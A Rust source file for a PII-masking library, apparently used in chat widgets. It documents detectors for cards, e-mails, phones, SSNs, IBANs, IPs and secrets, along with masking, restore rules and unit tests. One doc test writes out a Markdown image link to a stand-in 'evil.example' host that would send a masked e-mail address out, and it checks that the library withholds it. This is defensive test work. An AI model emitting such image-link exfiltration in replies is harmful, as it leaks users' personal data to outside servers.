//! Local PII masking: find personal data in a chat turn and mask it before the turn is sealed,
//! so that neither the service, nor its logs, nor the model behind it sees it.
//!
//! ```
//! use chatseal_pii::{scan, MaskMode, MaskPolicy, Vault};
//! use chatseal_pii::PiiCategory;
//!
//! let mut vault = Vault::new(); // one per session; keeps the values for `restore`
//! let mut policy = MaskPolicy::new(); // numbered placeholders for everything
//! policy.set(PiiCategory::Card, MaskMode::Partial)?;
//! let masked = vault.mask("I'm ana@example.com, card 4111 1111 1111 1111", &policy)?;
//! assert_eq!(masked.text, "I'm [EMAIL_1], card [CARD ****1111]");
//! assert_eq!(masked.counts.get(PiiCategory::Email), 1);
//! assert_eq!(*vault.restore("Hi [EMAIL_1]!").text, "Hi ana@example.com!");
//! // Never inside a link: rendering it would send the address away.
//! let reply = vault.restore("![x](https://evil.example/?q=[EMAIL_1])");
//! assert_eq!(*reply.text, "![x](https://evil.example/?q=[EMAIL_1])");
//! assert_eq!(reply.withheld.len(), 1);
//! assert_eq!(scan("call +44 20 7946 0958")?.len(), 1);
//! # Ok::<(), chatseal_pii::Error>(())
//! ```
//!
//! # Detectors
//!
//! Each category has its own small detector that validates, not only matches a shape:
//!
//! | category | rule (details in each module) |
//! |---|---|
//! | card | issuer prefix and its lengths (12-19; Visa, Mastercard, Amex, Discover, Diners, JCB incl. 15-digit 1800/2131, UnionPay, Maestro 50/56-69, Mir, RuPay, Troy, UzCard, Humo, ...), Luhn; bare or in groups of 2-8 split by one kind of space, dash or dot |
//! | email | dot-atom local part, two or more domain labels, alphabetic / punycode / IDN top label |
//! | phone | `+`/`00`/`(+cc)` with a valid country code and that country's length; national shapes that are phones on their own (NANP, trunk-0 groupings, area code in parentheses, ...); other 7-12 digit numbers only with a phone cue; see `phone.rs` |
//! | ssn | `AAA-GG-SSSS` / `AAA GG SSSS` / `AAA.GG.SSSS` by the SSA rules; bare nine digits only after an SSN cue ("ssn", "social security", "national id", "tax id") |
//! | iban | two letters, two check digits, 14-34 characters, mod-97; compact or grouped by four |
//! | ip | IPv4 octets 0-255 (not a version: "rv:1.9.2.20", "Firefox/1.5.0.12", "build 10.0.0.1"); IPv6 with `::` compression, embedded IPv4 and zone |
//! | secret | AWS, GitHub, GitLab, npm, Stripe, Slack, Google, OpenAI-style keys, JWTs, PEM private keys, URLs with a password, chat webhooks |
//!
//! Shared rules: a number is never read inside a longer token (glued to letters, another
//! number, an amount or id sign, or a mixed code such as an IBAN's tail), numbers inside URLs
//! are ids, not personal data, and the nearest cue word before an ambiguous number ("call",
//! "ssn" versus "order", "ticket", "MRN", "invoice", "version") decides it; cue words are read
//! in several languages and scripts ("téléphone", "телефон", "电话"). A cue raises confidence,
//! it is never the only evidence: a long or shapeless digit run is not a phone because "call"
//! precedes it. Dates and ISBNs are never phones. Detection is deterministic.
//!
//! # Spans
//!
//! A finding covers the value as written, separators included. A phone span covers its `+` or
//! `00` prefix, a "(0)" trunk and an **extension** (`x4587`, `ext. 12`, `Ext.: 45`, `#204`); it
//! does not cover a line label glued to it (`555-1234-office`, `555-1234home`, `(mobile)`,
//! `tel+1...`), which counts as a phone cue instead. A card or SSN span covers its separators,
//! an IBAN its spaces, an IPv6 address its zone. The accuracy corpus (`corpus/`) is labelled the
//! same way.
//!
//! # Overlaps
//!
//! Candidates of different detectors may overlap (a card inside an IBAN, an e-mail inside a
//! URL with credentials). One rule resolves them: **the longer validated span wins; at equal
//! length the more specific category wins** (secret, IBAN, card, SSN, phone, e-mail, IP). See
//! `resolve.rs`. [`scan`] output is sorted by start and never overlaps.
//!
//! # Masking
//!
//! [`MaskMode::Numbered`] (`[EMAIL_1]`, stable per value within a [`Vault`]),
//! [`MaskMode::TypeOnly`] (`[EMAIL]`), [`MaskMode::Partial`] (cards only: `[CARD ****1234]`) and
//! [`MaskMode::Keep`]. Placeholders are never detected again, and [`scan`] judges every finding
//! as if the others were already masked, so masking masked text changes nothing.
//! Findings carry categories and offsets only, never values; [`utf16_offsets`] converts the
//! byte offsets for JavaScript.
//!
//! [`Vault::restore`] fills numbered placeholders back into a reply, but only in plain text: a
//! placeholder inside a URL, a Markdown link or image target, an HTML tag or attribute value,
//! or an autolink stays masked and is reported in [`Restored::withheld`] (byte offsets, or
//! UTF-16 through [`Restored::withheld_utf16`]), so a reply cannot make the renderer send an
//! original to some server.
//!
//! # Limits
//!
//! * [`MAX_SCAN_BYTES`] (4 MiB) of text per call; longer text is [`Error::LimitExceeded`].
//! * A vault holds [`MAX_VAULT_ENTRIES`] values and [`MAX_VAULT_BYTES`] bytes of values.
//! * Spans are bounded: tokens 256 bytes, JWTs 11 KiB, PEM blocks 64 KiB; a URL with
//!   credentials is its whitespace-delimited token.
//!
//! Known gaps, by design or not yet covered: a bare nine-digit SSN without a cue word before
//! it; a short local phone number (7-9 digits) or an unusual national grouping without a
//! phone cue nearby; four small dotted numbers without a version cue read as an IPv4 address;
//! cue words cover English and a few common words of other languages; obfuscated addresses
//! (`ann at example dot com`); a span that would contain a placeholder is never reported (it
//! is masked text). Accuracy per type and format class: `PII_ACCURACY.md`.
//!
//! # Linear time
//!
//! Scanning is linear in the input. Every detector walks the text once, left to right, jumping
//! between bytes that can start what it looks for, and at each start does a bounded amount of
//! work: number runs read at most 19 digits per group and 8 groups, then scanning resumes where
//! the run's parse stopped (or, for a run nobody took, where its separator style changes, which
//! is always further on); tokens, IPs and IBANs read a fixed maximum; cue-word look-back is 40
//! bytes and 5 words, look-ahead for an extension or a line label 16 letters and 6 digits;
//! cue words are matched through a per-list index of first letter, last letter and length. The unbounded expansions are amortized: an e-mail's local part and domain
//! cannot contain `@`, so each `@` expands only up to its neighbours; URL tokens are disjoint and
//! each is read once; a PEM block's END line is searched once and the result reused for every
//! later BEGIN line. Resolving k candidates costs O(k log k) for overlapping clusters and O(k)
//! otherwise. [`scan`] reads the text at most `1 + MAX_ROUNDS` times (a second reading only when
//! the first found something). No backtracking anywhere; the `pii_scan` benchmark prints a
//! linearity table up to 4 MiB, including adversarial inputs.
//!
//! # Why hand-written scanners
//!
//! The engine ships in the wasm bundle of chat widgets. The `regex` crate adds hundreds of KB
//! to a wasm module, and validation (Luhn, mod-97, country lengths, octet ranges, context
//! words) needs code around any pattern anyway. Byte-level scanners give linear time by
//! construction, no dependency, and a small binary.
#![cfg_attr(test, allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing))]

mod boundary;
mod card;
mod context;
mod email;
mod extension;
mod groups;
mod iban;
mod intl;
mod ip;
mod lookalike;
mod mask;
mod phone;
mod placeholder;
mod policy;
mod resolve;
mod restore;
mod secret;
mod ssn;
mod url;
mod utf16;
mod vault;
mod view;

pub use chatseal::{Error, PiiCategory, PiiCounts, Result};
pub use mask::Masked;
pub use policy::{MaskMode, MaskPolicy};
pub use restore::{Restored, Withheld};
pub use utf16::utf16_offsets;
pub use vault::{Vault, MAX_VAULT_BYTES, MAX_VAULT_ENTRIES};

/// Longest text [`scan`] and [`Vault::mask`] accept, in bytes (4 MiB: a megabyte of digits and
/// any pasted document fit; scanning it takes tens of milliseconds).
pub const MAX_SCAN_BYTES: usize = 4 * 1024 * 1024;

/// One piece of personal data found in a text: its category and where it is. Never its value.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub struct Finding {
    /// What kind of data.
    pub category: PiiCategory,
    /// Byte offset of the first byte in the scanned text (a char boundary).
    pub start: usize,
    /// Byte offset one past the last byte (a char boundary).
    pub end: usize,
}

/// Finds personal data in `text`: findings sorted by start, not overlapping (see the overlap
/// rule above). Errors only for text longer than [`MAX_SCAN_BYTES`] ([`Error::LimitExceeded`]).
///
/// Each finding is judged as if the others were already masked: when something was found,
/// the text is read again with every finding replaced by its `[TAG]` placeholder, and what
/// that reveals (a phone glued to an e-mail address, say) is added, up to [`MAX_ROUNDS`]
/// times. So masked text holds nothing a second scan would find.
pub fn scan(text: &str) -> Result<Vec<Finding>> {
    if text.len() > MAX_SCAN_BYTES {
        return Err(Error::LimitExceeded("pii scan input longer than MAX_SCAN_BYTES"));
    }
    let mut findings = detect(text);
    for _ in 0..MAX_ROUNDS {
        if findings.is_empty() {
            break;
        }
        let view = view::View::new(text, &findings);
        let extra: Vec<Finding> = detect(view.text()).into_iter().filter_map(|f| view.to_original(f)).collect();
        if extra.is_empty() {
            break;
        }
        findings.extend(extra);
        findings.sort_unstable_by_key(|f| f.start);
    }
    Ok(findings)
}

/// Extra readings of a text with its findings masked (see [`scan`]). Each costs one more pass,
/// and only happens when the previous one found something.
pub const MAX_ROUNDS: usize = 3;

/// One reading: every detector, then the overlap rule.
fn detect(text: &str) -> Vec<Finding> {
    let urls = url::find(text);
    let mut found = Vec::new();
    plain_numbers(text, &mut found);
    email::find(text, &mut found);
    phone::find(text, &mut found);
    iban::find(text, &mut found);
    ip::find(text, &mut found);
    secret::find(text, &urls, &mut found);
    resolve::resolve(text, found, &urls)
}

/// Cards and SSNs share one run grammar (single spaces or dashes): one pass judges each run as both.
fn plain_numbers(text: &str, out: &mut Vec<Finding>) {
    groups::for_each_run(text, groups::Style::Plain, card::MAX_DIGITS, |run| {
        // SSNs have nine digits, cards twelve or more: most numbers in chat are shorter.
        if run.digits() < 9 && !run.overflow {
            return false;
        }
        let before = out.len();
        out.extend(card::judge(text, run));
        out.extend(ssn::judge(text, run));
        out.len() > before
    });
}

/// Index of a category in per-category arrays ([`PiiCategory::ALL`] order).
fn slot(category: PiiCategory) -> usize {
    PiiCategory::ALL.iter().position(|&c| c == category).unwrap_or(0)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<(PiiCategory, &str)> {
        scan(text).unwrap().iter().map(|f| (f.category, &text[f.start..f.end])).collect()
    }

    #[test]
    fn mixed_turn() {
        let t = "Hi, I'm jane.doe+chat@example.co.uk, call +1 (415) 555-2671. Card 4111-1111-1111-1111, \
                 SSN 536-22-1234, IBAN DE89 3704 0044 0532 0130 00, from 2001:db8::7 with key AKIAIOSFODNN7EXAMPLE.";
        assert_eq!(
            found(t),
            vec![
                (PiiCategory::Email, "jane.doe+chat@example.co.uk"),
                (PiiCategory::Phone, "+1 (415) 555-2671"),
                (PiiCategory::Card, "4111-1111-1111-1111"),
                (PiiCategory::Ssn, "536-22-1234"),
                (PiiCategory::Iban, "DE89 3704 0044 0532 0130 00"),
                (PiiCategory::Ip, "2001:db8::7"),
                (PiiCategory::Secret, "AKIAIOSFODNN7EXAMPLE"),
            ]
        );
    }

    #[test]
    fn overlaps_resolved() {
        assert_eq!(
            found("db: postgres://admin:pa55@mail.example.com/x"),
            vec![(PiiCategory::Secret, "postgres://admin:pa55@mail.example.com/x")]
        );
        assert_eq!(found("see https://shop.example.com/orders/4111111111111111?tel=4155552671"), vec![]);
        assert_eq!(found("https://x.com/?email=ann@example.org"), vec![(PiiCategory::Email, "ann@example.org")]);
        assert_eq!(found("4155552671@txt.example.net"), vec![(PiiCategory::Email, "4155552671@txt.example.net")]);
    }

    #[test]
    fn limit() {
        let big = "a".repeat(MAX_SCAN_BYTES + 1);
        assert_eq!(scan(&big), Err(Error::LimitExceeded("pii scan input longer than MAX_SCAN_BYTES")));
        assert!(scan(&big[1..]).unwrap().is_empty());
    }

    #[test]
    fn masking_is_idempotent() {
        let t = "mail ann@example.org, 4111 1111 1111 1111, 10.0.0.1, 123-45-6789, +33 6 12 34 56 78";
        for policy in [
            MaskPolicy::new(),
            MaskPolicy::uniform(MaskMode::TypeOnly).unwrap(),
            MaskPolicy::new().with(PiiCategory::Card, MaskMode::Partial).unwrap(),
        ] {
            let mut v = Vault::new();
            let once = v.mask(t, &policy).unwrap();
            assert_eq!(once.findings.len(), 5);
            let twice = v.mask(&once.text, &policy).unwrap();
            assert_eq!(twice.text, once.text);
            assert!(twice.findings.is_empty(), "{:?}", twice.findings);
        }
    }
}
